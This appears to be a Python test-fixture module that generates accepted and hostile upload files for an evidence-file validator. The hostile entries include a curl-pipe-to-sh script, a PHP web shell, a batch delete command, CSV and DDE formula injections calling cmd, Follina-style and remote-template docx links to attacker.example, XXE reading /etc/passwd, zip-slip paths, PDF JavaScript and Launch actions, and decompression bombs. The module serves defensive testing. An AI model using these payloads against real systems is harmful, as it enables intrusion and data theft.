"""Evidence files to accept and files to refuse, made here with the libraries of each format rather than shipped,
so each hostile one shows exactly what it breaks. ``GOOD``: every accepted type, as real software writes it.
``HOSTILE``: one file per way of being wrong, grouped by the layer of checking that must refuse it, each with
words its refusal must contain."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from email.message import EmailMessage
from typing import NamedTuple

import docx
import openpyxl
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.evidence_corpus.cfb import compound_file, outlook_message

LIMIT = 256 * 1024  # a small limit keeps the over-the-limit files small
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MSG_TYPE = "application/vnd.ms-outlook"


class Good(NamedTuple):
    name: str
    data: bytes
    media_type: str


class Hostile(NamedTuple):
    layer: str
    name: str
    data: bytes
    reason: str


# Builders -------------------------------------------------------------------------------------------------------


def _saved(thing, **options) -> bytes:
    buffer = io.BytesIO()
    thing.save(buffer, **options)
    return buffer.getvalue()


def png(size=(40, 30), mode="RGB") -> bytes:
    return _saved(Image.new(mode, size, 120), format="PNG")


def jpeg(size=(40, 30), comment: bytes | None = None) -> bytes:
    options = {"format": "JPEG"}
    if comment:
        options["comment"] = comment
    return _saved(Image.new("RGB", size, (200, 40, 40)), **options)


def pdf(change=None) -> bytes:
    """A one-page PDF written by pypdf; ``change(writer)`` adds what a hostile one carries."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _page_annotation(action: dict, subtype: str = "/Link"):
    def change(writer: PdfWriter) -> None:
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
                ),
                **{NameObject(k): v for k, v in action.items()},
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def _action(kind: str, **values) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(k): v for k, v in values.items()}})


def _root(key: str, value):
    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject(key)] = value

    return change


def _document_javascript(writer: PdfWriter) -> None:
    """A script in the document's JavaScript name tree: a viewer runs it when the file opens."""
    script = writer._add_object(_action("/JavaScript", **{"/JS": TextStringObject("app.alert('hello');")}))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("hello"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def raw_pdf(catalog_extra: bytes = b"", prefix: bytes = b"") -> bytes:
    """A PDF written byte by byte (with a correct xref), for names pypdf would not write, like /J#61vaScript."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.7\n" + prefix)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def word(change=None) -> bytes:
    """A .docx written by python-docx; ``change(document)`` may add to it before saving."""
    document = docx.Document()
    document.add_paragraph("Training complete: 42 staff attended.")
    if change:
        change(document)
    return _saved(document)


def excel() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Name", "Trained", "Hours"])
    sheet.append(["Alex", "yes", 3])
    sheet.append(["Sam", "yes", 4])
    sheet["C4"] = "=SUM(C2:C3)"
    sheet["A6"] = "Intranet"
    sheet["A6"].hyperlink = "https://intranet.example.org/training"
    return _saved(workbook)


def rezip(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The same zip with parts replaced or added (an Office file changed the way a hostile one would be)."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        for name, part in add.items():
            target.writestr(name, part)
    return out.getvalue()


def zip_of(parts: list[tuple[str | zipfile.ZipInfo, bytes]], stored: tuple[str, ...] = ()) -> bytes:
    """A zip of ``parts`` in order, deflated except those named in ``stored``."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore", UserWarning)  # a part named twice is the point of one hostile file
        for name, part in parts:
            plain = (name.filename if isinstance(name, zipfile.ZipInfo) else name) in stored
            archive.writestr(name, part, compress_type=zipfile.ZIP_STORED if plain else None)
    return out.getvalue()


def _docx_parts() -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        return [(n, archive.read(n)) for n in archive.namelist()]


def _with_types(data: bytes, extra: bytes) -> bytes:
    """Add Default/Override lines to [Content_Types].xml."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml")
    return rezip(data, replace={"[Content_Types].xml": types.replace(b"</Types>", extra + b"</Types>")})


def _main_type(data: bytes, new_type: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml")
    return rezip(data, replace={"[Content_Types].xml": types.replace(DOCX_TYPE.encode() + b".main+xml", new_type)})


def _document_rels(extra: bytes) -> bytes:
    data = word()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = archive.read("word/_rels/document.xml.rels")
    return rezip(
        data, replace={"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", extra + b"</Relationships>")}
    )


def _relationship(kind: str, target: str, external: bool = True) -> bytes:
    mode = b' TargetMode="External"' if external else b""
    return (
        b'<Relationship Id="rIdX9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        + kind.encode()
        + b'" Target="'
        + target.encode()
        + b'"'
        + mode
        + b"/>"
    )


def _document_body(xml: bytes) -> bytes:
    data = word()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        document = archive.read("word/document.xml")
    return rezip(data, replace={"word/document.xml": document.replace(b"<w:body>", b"<w:body>" + xml, 1)})


def _xml_with_doctype(xml: bytes, doctype: bytes) -> bytes:
    declaration_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:declaration_end] + doctype + xml[declaration_end:]


def _doctype_in(part: str, doctype: bytes, data: bytes | None = None) -> bytes:
    data = data or word()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(part)
    return rezip(data, replace={part: _xml_with_doctype(xml, doctype)})


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _field_runs(*instructions: str) -> bytes:
    """A Word field whose instruction is split over several runs, as Word writes long ones."""
    runs = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    runs += b"".join(f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>'.encode() for i in instructions)
    runs += b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
    runs += b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return b"<w:p>" + runs + b"</w:p>"


def _sheet_formula(formula: str) -> bytes:
    data = excel()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    cell = f'<c r="D9"><f>{formula}</f></c>'.encode()
    return rezip(
        data,
        replace={
            "xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", b'<row r="9">' + cell + b"</row></sheetData>")
        },
    )


def _symlink_docx() -> bytes:
    link = zipfile.ZipInfo("word/media/link.png")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    return zip_of([*_docx_parts(), (link, b"/etc/passwd")])


def _encrypted_entry_docx() -> bytes:
    """A part marked encrypted (general purpose flag bit 0) in its local header and in the central directory."""
    name = b"word/media/secret.bin"
    data = bytearray(zip_of([*_docx_parts(), (name.decode(), b"secret")]))
    for signature, name_at, flags_at in ((b"PK\x03\x04", 30, 6), (b"PK\x01\x02", 46, 8)):
        start = data.find(signature)
        while data[start + name_at : start + name_at + len(name)] != name:
            start = data.find(signature, start + 4)
        data[start + flags_at] |= 0x1
    return bytes(data)


def _crc_broken_docx() -> bytes:
    data = bytearray(zip_of([*_docx_parts(), ("word/notes.txt", b"A" * 400)], stored=("word/notes.txt",)))
    at = bytes(data).index(b"A" * 400)
    data[at] = ord("B")
    return bytes(data)


def _ratio_docx() -> bytes:
    noise = random.Random(7).randbytes(180_000)
    return rezip(word(), add={"word/media/noise.bin": noise, "word/media/zeros.bin": b"\0" * (12 * 1024 * 1024)})


def png_bomb() -> bytes:
    """A 20,000 × 20,000 one-bit PNG: 50 MB of pixels in about 50 KB."""
    width = height = 20_000
    row = b"\0" + b"\0" * (width // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header claims 60,000 × 60,000 pixels."""
    data = bytearray(jpeg((16, 16)))
    sof = bytes(data).index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


def eml(attachments: list[tuple[str, bytes, str]] | None = None, html: bool = False) -> bytes:
    message = EmailMessage()
    message["From"] = "Owner <owner@example.org>"
    message["To"] = "Lead <lead@example.org>"
    message["Subject"] = "Training complete"
    message["Date"] = "Mon, 19 Apr 2021 10:00:00 +0100"
    message.set_content("All staff trained on 16 April.")
    if html:
        message.add_alternative("<html><body><p>All staff trained on 16 April.</p></body></html>", subtype="html")
    for name, data, kind in attachments or []:
        maintype, subtype = kind.split("/")
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return bytes(message)


def old_office_with_macros() -> bytes:
    return compound_file(
        {
            "WordDocument": b"\xec\xa5" + b"\0" * 200,
            "Macros/VBA/dir": b"\x01" * 64,
            "Macros/VBA/ThisDocument": b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n',
        }
    )


# What must be accepted -------------------------------------------------------------------------------------------

PDF = pdf()
PNG = png()
JPEG = jpeg()
DOCX = word()
XLSX = excel()
EML = eml()
MSG = outlook_message()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
DDE_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)
RAW_EXE_MAIL = (
    b'From: a@example.org\r\nTo: b@example.org\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n'
    b'--x\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="run.exe"\r\n\r\nMZ\r\n'
    b"--x--\r\n"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'


def _hyperlinked_word() -> bytes:
    def change(document) -> None:
        document.part.relate_to("https://intranet.example.org/minutes", RT.HYPERLINK, is_external=True)
        document.add_paragraph("See the minutes on the intranet.")

    return word(change)


GOOD: list[Good] = [
    Good("minutes.pdf", PDF, "application/pdf"),
    Good("Report (final) v2.PDF", PDF, "application/pdf"),
    Good("Minutes 12.04.2021.pdf", PDF, "application/pdf"),
    Good("opens-at-page-1.pdf", raw_pdf(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
    Good(
        "with-link.pdf",
        pdf(_page_annotation({"/A": _action("/URI", **{"/URI": TextStringObject("https://example.org")})})),
        "application/pdf",
    ),
    Good("chart.png", PNG, "image/png"),
    Good("transparent.png", png((64, 64), "RGBA"), "image/png"),
    Good("palette.png", png((64, 64), "P"), "image/png"),
    Good("grey.png", png((64, 64), "L"), "image/png"),
    Good("photo.jpg", JPEG, "image/jpeg"),
    Good("photo.jpeg", jpeg((320, 240), comment=b"Taken at the training day"), "image/jpeg"),
    Good("plan.docx", DOCX, DOCX_TYPE),
    Good("Café plan.docx", _hyperlinked_word(), DOCX_TYPE),
    Good("tracker.xlsx", XLSX, XLSX_TYPE),
    # A small part of repetitive XML compresses far more than 100:1 and is no bomb.
    Good("repetitive.docx", rezip(DOCX, add={"customXml/item9.xml": b"<r>" + b"<a/>" * 100_000 + b"</r>"}), DOCX_TYPE),
    Good("data.csv", b'name,trained,change\nAlex,yes,-2\nSam,no,+3\n"- bullet, quoted",yes,1\n', "text/csv"),
    Good("sums.csv", b'item,note\nbudget,"=""text"" only"\n', "text/csv"),
    Good("notes.txt", "Café attendance: 12 €".encode("cp1252"), "text/plain"),
    Good("utf8.txt", "\ufeffTraining — complete\r\n\tIndented line\n".encode(), "text/plain"),
    Good("confirmation.eml", EML, "message/rfc822"),
    Good("html-mail.eml", eml(html=True), "message/rfc822"),
    Good(
        "with-attachment.eml",
        eml([("attendance.pdf", PDF, "application/pdf"), ("logo.gif", b"GIF89a" + b"\0" * 20, "image/gif")]),
        "message/rfc822",
    ),
    Good("confirmation.msg", MSG, MSG_TYPE),
    Good("with-attachment.msg", outlook_message(attachments=[("attendance.pdf", PDF)]), MSG_TYPE),
    Good("ünïcödé 名前.txt", b"Names in any script are kept as given.", "text/plain"),
    Good("a..b.pdf", PDF, "application/pdf"),
]


# What must be refused, by layer ----------------------------------------------------------------------------------

NAMES = [
    Hostile("name", "CON", b"text", "a name Windows keeps for a device"),
    Hostile("name", "CON.txt", b"text", "a name Windows keeps for a device"),
    Hostile("name", "nul.pdf", PDF, "a name Windows keeps for a device"),
    Hostile("name", "Aux.report.pdf", PDF, "a name Windows keeps for a device"),
    Hostile("name", "COM1.docx", DOCX, "a name Windows keeps for a device"),
    Hostile("name", "lpt9.png", PNG, "a name Windows keeps for a device"),
    Hostile("name", "PRN .txt", b"text", "a name Windows keeps for a device"),
    Hostile("name", "COM¹.txt", b"text", "a name Windows keeps for a device"),
    Hostile("name", "a" * 252 + ".pdf", PDF, "longer than 255 bytes"),
    Hostile("name", "é" * 126 + ".pdf", PDF, "longer than 255 bytes"),
    Hostile("name", "evil\x00.pdf", PDF, "control characters"),
    Hostile("name", "line\nbreak.pdf", PDF, "control characters"),
    Hostile("name", "bell\x07.txt", b"text", "control characters"),
    Hostile("name", "invoice\u202efdp.exe", EXE, "change the direction"),
    Hostile("name", "report\u202dtxt.pdf", PDF, "change the direction"),
    Hostile("name", "isolate\u2066.pdf", PDF, "change the direction"),
    Hostile("name", "mark\u200f.pdf", PDF, "change the direction"),
    Hostile("name", "mark\u200e.pdf", PDF, "change the direction"),
    Hostile("name", "zero\u200bwidth.pdf", PDF, "control characters"),
    Hostile("name", "report.pdf.", PDF, "end with a dot"),
    Hostile("name", "report.pdf ", PDF, "end with a space"),
    Hostile("name", " report.pdf", PDF, "start or end with a space"),
    Hostile("name", "report.txt:hidden.exe", b"text", 'must not contain ":"'),
    Hostile("name", "C:report.pdf", PDF, 'must not contain ":"'),
    Hostile("name", "../../etc/passwd.txt", b"root:x:0:0", "folder path"),
    Hostile("name", "..\\..\\boot.ini.txt", b"[boot]", "folder path"),
    Hostile("name", "/etc/cron.d/job.txt", b"* * * * * id", "folder path"),
    Hostile("name", "a<b>.pdf", PDF, "Windows does not allow"),
    Hostile("name", "what?.pdf", PDF, "Windows does not allow"),
    Hostile("name", 'quote".pdf', PDF, "Windows does not allow"),
    Hostile("name", "pipe|star*.pdf", PDF, "Windows does not allow"),
    Hostile("name", "README", b"text", "needs a name and an extension"),
    Hostile("name", ".pdf", PDF, "needs a name and an extension"),
    Hostile("name", "   ", PDF, "must have a name"),
    Hostile("name", "report.html.pdf", PDF, "double extension"),
    Hostile("name", "setup.exe.txt", b"text", "double extension"),
    Hostile("name", "invoice.exe", EXE, "must be a PDF"),
    Hostile("name", "report.pdf.exe", PDF, "must be a PDF"),
    Hostile("name", "drawing.svg", SVG, "must be a PDF"),
    Hostile("name", "index.html", HTML, "must be a PDF"),
    Hostile("name", "macro.docm", DOCX, "must be a PDF"),
    Hostile("size", "empty.pdf", b"", "is empty"),
    Hostile("size", "big.pdf", PDF + b"%" * LIMIT, "must be smaller than 256 KB"),
]

TYPES = [
    Hostile("type", "report.pdf", PNG, "is not a PDF: its content looks like a PNG image"),
    Hostile("type", "report.pdf", HTML, "is not a PDF: its content looks like HTML"),
    Hostile("type", "report.pdf", SVG, "is not a PDF: its content looks like SVG"),
    Hostile("type", "photo.png", JPEG, "is not a PNG image: its content looks like a JPEG image"),
    Hostile("type", "photo.jpg", PNG, "is not a JPEG image: its content looks like a PNG image"),
    Hostile("type", "photo.jpg", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "looks like a GIF image"),
    Hostile("type", "tracker.xlsx", PDF, "is not an Excel workbook: its content looks like a PDF"),
    Hostile("type", "plan.docx", EXE, "is not a Word document: its content looks like a Windows program"),
    Hostile("type", "mail.msg", b"Hello, this is not an Outlook message", "not an Outlook message"),
    Hostile("type", "mail.msg", DOCX, "its content looks like a zip archive"),
    Hostile(
        "type",
        "mail.msg",
        compound_file({"WordDocument": b"\xec\xa5" + b"\0" * 200}),
        "another kind of Outlook or Office file",
    ),
    Hostile("type", "mail.eml", b"Just some words about the meeting.\n", "no mail headers"),
    Hostile("type", "mail.eml", HTML, "no mail headers"),
    Hostile("type", "mail.eml", EML.replace(b"All staff", b"All\x00staff"), "binary data"),
    Hostile("type", "notes.txt", EXE, "looks like a Windows program"),
    Hostile("type", "notes.txt", ELF, "looks like a program (Linux)"),
    Hostile("type", "notes.txt", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 24, "looks like a program (Mac)"),
    Hostile("type", "notes.txt", b"#!/bin/sh\ncurl http://example.org/x | sh\n", "looks like a script (#!)"),
    Hostile("type", "notes.txt", b"@echo off\r\ndel /q C:\\*\r\n", "looks like a Windows batch script"),
    Hostile("type", "notes.txt", HTML, "looks like HTML"),
    Hostile("type", "notes.txt", b"Meeting notes\n" * 200 + b"<script>fetch('/')</script>", "looks like HTML"),
    Hostile("type", "notes.txt", b"<?php system($_GET['c']); ?>", "looks like a PHP script"),
    Hostile("type", "notes.txt", PDF, "looks like a PDF"),
    Hostile("type", "notes.txt", b"Notes\n%PDF-1.7\n1 0 obj", "looks like a PDF"),
    Hostile("type", "notes.txt", b"\x81\x8d\x8f\x90\x9d", "not UTF-8 or Windows text"),
    Hostile("type", "notes.txt", b"escape \x1b[31m red", "binary data"),
    Hostile("type", "data.csv", b"a,b\x00,c\n", "binary data"),
    Hostile("type", "drawing.csv", SVG, "looks like SVG"),
    Hostile("type", "data.csv", b"name,value\nAlex,\"=cmd|' /C calc'!A0\"\n", "formula in row 2"),
    Hostile("type", "data.csv", b'name,value\nAlex,=HYPERLINK("http://example.org/steal?"&A1)\n', "formula in row 2"),
    Hostile("type", "data.csv", b"name,value\nAlex,@SUM(1+1)*cmd|' /C calc'!A0\n", "formula in row 2"),
    Hostile("type", "data.csv", b'name,value\nAlex,+WEBSERVICE("http://example.org")\n', "formula in row 2"),
]

STRUCTURE = [
    Hostile("structure", "bomb.png", png_bomb(), "decompression bomb"),
    Hostile("structure", "bomb.jpg", jpeg_bomb(), "decompression bomb"),
    Hostile("structure", "cut.png", PNG[: len(PNG) // 2], "damaged or cut short"),
    Hostile("structure", "cut.jpg", JPEG[: len(JPEG) // 2], "damaged or cut short"),
    Hostile("structure", "crc.png", PNG[:30] + bytes([PNG[30] ^ 0xFF]) + PNG[31:], "damaged or cut short"),
    Hostile("structure", "tail.png", PNG + b"<p>hello</p>", "data after the end of the image"),
    Hostile("structure", "broken.pdf", b"%PDF-1.7\n" + b"garbage " * 40, "is not a PDF: the file is damaged"),
    Hostile("structure", "locked.pdf", pdf(lambda w: w.encrypt("secret", algorithm="RC4-128")), "password-protected"),
    Hostile(
        "structure",
        "bomb.docx",
        rezip(DOCX, add={"word/media/zeros.bin": b"\0" * (16 * 1024 * 1024)}),
        "too large to be safe",
    ),
    Hostile("structure", "tight.docx", _ratio_docx(), "compressed suspiciously tightly"),
    Hostile("structure", "parts.xlsx", zip_of([(f"xl/p{i}.xml", b"") for i in range(2100)]), "too many parts"),
    Hostile("structure", "slip.docx", rezip(DOCX, add={"../../evil.sh": b"echo owned"}), "unsafe path"),
    Hostile("structure", "absolute.docx", rezip(DOCX, add={"/etc/cron.d/evil": b"* * * * * id"}), "unsafe path"),
    Hostile("structure", "backslash.xlsx", rezip(XLSX, add={"..\\evil.bat": b"del"}), "unsafe path"),
    Hostile("structure", "link.docx", _symlink_docx(), "symbolic link"),
    Hostile(
        "structure",
        "twice.docx",
        zip_of([*_docx_parts(), ("word/document.xml", b"<w:document/>")]),
        "two parts called word/document.xml",
    ),
    Hostile("structure", "case.docx", rezip(DOCX, add={"WORD/DOCUMENT.XML": b"<x/>"}), "two parts called"),
    Hostile("structure", "encrypted.docx", _encrypted_entry_docx(), "encrypted"),
    Hostile("structure", "crc.docx", _crc_broken_docx(), "is not a Word document: the file is damaged"),
    Hostile("structure", "broken.docx", b"PK\x03\x04" + b"\x00" * 40, "the file is damaged"),
    Hostile("structure", "plan.docx", zip_of([("word/document.xml", b"<w:document/>")]), "document parts are missing"),
    Hostile("structure", "tracker.xlsx", DOCX, "content types are wrong"),
    Hostile(
        "structure",
        "template.docx",
        _main_type(DOCX, b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "content types are wrong",
    ),
    Hostile(
        "structure",
        "badxml.docx",
        rezip(DOCX, replace={"word/document.xml": b"<w:document><unclosed>"}),
        "not well-formed XML",
    ),
    Hostile("structure", "broken.msg", MSG[:700], "the file is damaged"),
    Hostile(
        "structure",
        "bad.eml",
        RAW_EXE_MAIL,
        "not accepted (.exe)",
    ),
]

ACTIVE = [
    Hostile("active", "js.pdf", pdf(_document_javascript), "contains JavaScript"),
    Hostile(
        "active",
        "hexjs.pdf",
        raw_pdf(b"/Names << /J#61vaScript << /Names [(x) << /S /JavaScript /J#53 (app.alert(1)) >>] >> >>"),
        "contains JavaScript",
    ),
    Hostile(
        "active",
        "launch.pdf",
        pdf(_page_annotation({"/A": _action("/Launch", **{"/F": TextStringObject("calc.exe")})})),
        "Launch action",
    ),
    Hostile(
        "active",
        "open.pdf",
        pdf(_root("/OpenAction", _action("/GoTo", **{"/D": ArrayObject([NumberObject(0), NameObject("/Fit")])}))),
        "runs an action when it is opened",
    ),
    Hostile(
        "active", "aa.pdf", raw_pdf(b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"), "actions that run by themselves"
    ),
    Hostile("active", "attached.pdf", pdf(lambda w: w.add_attachment("payload.exe", EXE)), "embedded files"),
    Hostile(
        "active",
        "annot.pdf",
        pdf(_page_annotation({"/FS": TextStringObject("x.exe")}, "/FileAttachment")),
        "embedded files",
    ),
    Hostile("active", "xfa.pdf", raw_pdf(b"/AcroForm << /Fields [] /XFA (<xdp/>) >>"), "XFA form"),
    Hostile(
        "active",
        "submit.pdf",
        pdf(
            _page_annotation({"/A": _action("/SubmitForm", **{"/F": TextStringObject("https://example.org/collect")})})
        ),
        "sends data elsewhere",
    ),
    Hostile(
        "active",
        "remote.pdf",
        pdf(_page_annotation({"/A": _action("/GoToR", **{"/F": TextStringObject("\\\\attacker\\share\\x.pdf")})})),
        "opens another file",
    ),
    Hostile("active", "macro.docx", rezip(DOCX, add={"word/vbaProject.bin": b"\x01" * 64}), "contains macros"),
    Hostile(
        "active",
        "enabled.docx",
        _main_type(DOCX, b"application/vnd.ms-word.document.macroEnabled.main+xml"),
        "contains macros",
    ),
    Hostile(
        "active",
        "xlm.xlsx",
        _with_types(
            XLSX,
            b'<Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
        "contains macros",
    ),
    Hostile(
        "active",
        "activex.docx",
        _with_types(DOCX, b'<Default Extension="ocx" ContentType="application/vnd.ms-office.activeX+xml"/>'),
        "ActiveX",
    ),
    Hostile(
        "active",
        "template.docx",
        _document_rels(_relationship("attachedTemplate", "https://attacker.example/t.dotm")),
        "uses a template from outside the file",
    ),
    Hostile(
        "active",
        "follina.docx",
        _document_rels(_relationship("oleObject", "mhtml:https://attacker.example/x.html!x-usc:x")),
        "embedded object (oleObject)",
    ),
    Hostile(
        "active",
        "ole.docx",
        _document_rels(_relationship("oleObject", "embeddings/oleObject1.bin", external=False)),
        "embedded object (oleObject)",
    ),
    Hostile(
        "active",
        "frame.docx",
        _document_rels(_relationship("frame", "https://attacker.example/frame.html")),
        "links to something outside the file (frame",
    ),
    Hostile(
        "active",
        "image.docx",
        _document_rels(_relationship("image", "\\\\attacker\\share\\x.png")),
        "links to something outside the file (image",
    ),
    Hostile(
        "active", "chunk.docx", _document_rels(_relationship("aFChunk", "afchunk.mht", external=False)), "altChunk"
    ),
    Hostile(
        "active",
        "dde.docx",
        _document_body(_field_runs(" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        "DDEAUTO field",
    ),
    Hostile(
        "active",
        "dde2.docx",
        _document_body(b'<w:p><w:fldSimple w:instr=" DDE cmd.exe /c calc"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
        "DDE field",
    ),
    Hostile("active", "dde.xlsx", _sheet_formula("cmd|' /C calc'!A0"), "DDE formula"),
    Hostile(
        "active",
        "ddelink.xlsx",
        rezip(
            XLSX,
            add={"xl/externalLinks/externalLink1.xml": DDE_LINK},
        ),
        "DDE link",
    ),
    Hostile("active", "laughs.docx", _doctype_in("word/document.xml", BILLION_LAUGHS), "DOCTYPE in word/document.xml"),
    Hostile("active", "xxe.xlsx", _doctype_in("xl/workbook.xml", XXE, excel()), "DOCTYPE in xl/workbook.xml"),
    Hostile(
        "active",
        "types.docx",
        _doctype_in("[Content_Types].xml", b"<!DOCTYPE Types>"),
        "DOCTYPE in [Content_Types].xml",
    ),
    Hostile("active", "rels.docx", _doctype_in("_rels/.rels", XXE), "DOCTYPE in _rels/.rels"),
    Hostile(
        "active",
        "exe-attached.eml",
        eml([("run.exe", EXE, "application/octet-stream")]),
        'attachment "run.exe" of a kind that is not accepted',
    ),
    Hostile(
        "active",
        "page-attached.eml",
        eml([("page.html", HTML, "text/html")]),
        'attachment "page.html" of a kind that is not accepted',
    ),
    Hostile(
        "active",
        "disguised.eml",
        eml([("invoice.pdf", EXE, "application/pdf")]),
        'attachment "invoice.pdf" that is a Windows program',
    ),
    Hostile(
        "active",
        "nested.eml",
        eml([("minutes.pdf", pdf(_document_javascript), "application/pdf")]),
        'attachment "minutes.pdf" that contains JavaScript',
    ),
    Hostile(
        "active",
        "macro-attached.eml",
        eml([("budget.doc", old_office_with_macros(), "application/msword")]),
        'attachment "budget.doc" that contains macros',
    ),
    Hostile(
        "active",
        "exe-attached.msg",
        outlook_message(attachments=[("setup.exe", EXE)]),
        'attachment "setup.exe" of a kind that is not accepted',
    ),
    Hostile(
        "active",
        "embedded.msg",
        outlook_message(
            extra={"__attach_version1.0_#00000000/__substg1.0_3701000D/__properties_version1.0": b"\0" * 8},
            attachments=[("x.txt", b"x")],
        ),
        "embedded object or message",
    ),
    Hostile("active", "macros.msg", outlook_message(extra={"Macros/VBA/dir": b"\x01" * 64}), "contains macros"),
]

POLYGLOTS = [
    Hostile("polyglot", "pdfzip.pdf", PDF + zip_of([("payload.js", b"alert(1)")]), "is also a zip archive"),
    Hostile(
        "polyglot",
        "jpegjar.jpg",
        JPEG + zip_of([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"\xca\xfe\xba\xbe")]),
        "is also a zip archive",
    ),
    Hostile(
        "polyglot",
        "gifjar.jpg",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + zip_of([("Evil.class", b"\xca\xfe\xba\xbe")]),
        "looks like a GIF image",
    ),
    Hostile("polyglot", "jpegpdf.jpg", jpeg(comment=b"%PDF-1.7 1 0 obj << /Type /Catalog >> endobj"), "is also a PDF"),
